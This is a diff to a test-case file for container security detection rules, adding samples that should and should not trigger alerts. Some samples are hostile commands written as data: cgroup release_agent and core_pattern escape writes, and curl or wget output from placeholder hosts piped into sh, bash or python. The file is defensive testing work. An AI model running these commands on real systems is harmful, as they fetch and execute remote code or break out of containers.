@@ -118,6 +118,8 @@ export const CASES: Record<string, RuleCases> = {
       write('/tmp/cgrp/release_agent'),
       write('/sys/fs/cgroup/rdma/x/notify_on_release'),
       x(['sh', '-c', 'echo /cmd > /tmp/cgrp/release_agent']),
+      x(['sh', '-c', 'echo 1 > /tmp/cgrp/x/notify_on_release']),
+      x(['tee', '/tmp/cgrp/release_agent']),
     ],
     quiet: [
       write('/tmp/cgrp/cgroup.procs'),
@@ -131,8 +133,15 @@ export const CASES: Record<string, RuleCases> = {
       write('/proc/sys/kernel/core_pattern'),
       write('/host/proc/sys/kernel/core_pattern'),
       x(['sysctl', '-w', 'kernel.core_pattern=|/tmp/x']),
+      x(['sh', '-c', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern']),
+      x(['tee', '/proc/sys/kernel/core_pattern']),
     ],
-    quiet: [write('/proc/sys/kernel/core_uses_pid'), x(['sysctl', '-w', 'net.ipv4.ip_forward=1'])],
+    quiet: [
+      write('/proc/sys/kernel/core_uses_pid'),
+      x(['sysctl', '-w', 'net.ipv4.ip_forward=1']),
+      x(['cat', '/proc/sys/kernel/core_pattern']),
+      x(['sysctl', 'kernel.core_pattern']),
+    ],
   },
   '8b9c3bdb-5431-459c-b2f0-11c57c8c00c2': {
     name: 'debugfs Run Against a Block Device in a Container',
@@ -286,6 +295,20 @@ export const CASES: Record<string, RuleCases> = {
       [op('createExecutable', 'creation', '/tmp/a.out', { args: ['gcc', 'main.c'] }), x(['/tmp/a.out'])],
       // a plain (non-executable) file
       [op('createFile', 'creation', '/tmp/run.sh', { args: ['sh'] }), x(['/tmp/run.sh'])],
+    ],
+  },
+  '05353486-fe3e-4e37-a82a-4dadf9e51af8': {
+    name: 'Remote Content Piped into a Shell or Interpreter in a Container',
+    fire: [
+      x(['sh', '-c', 'curl -fsSL http://1.2.3.4/i.sh | sh']),
+      x(['bash', '-c', 'wget -q -O- https://x.example/a | bash -s']),
+      x(['sh', '-c', 'curl -s http://x/p.py | python3 -']),
+    ],
+    quiet: [
+      x(['sh', '-c', 'curl -fsS http://localhost:8080/healthz | grep ok']),
+      x(['sh', '-c', 'curl -o /tmp/x http://1.2.3.4/x']),
+      x(['sh', '-c', 'curl -s http://localhost/install.sh | sh']),
+      x(['curl', 'http://x/i.sh', '|', 'sh']),
     ],
   },
   'c2de61c9-3a44-45b1-9992-b61f64f93416': {
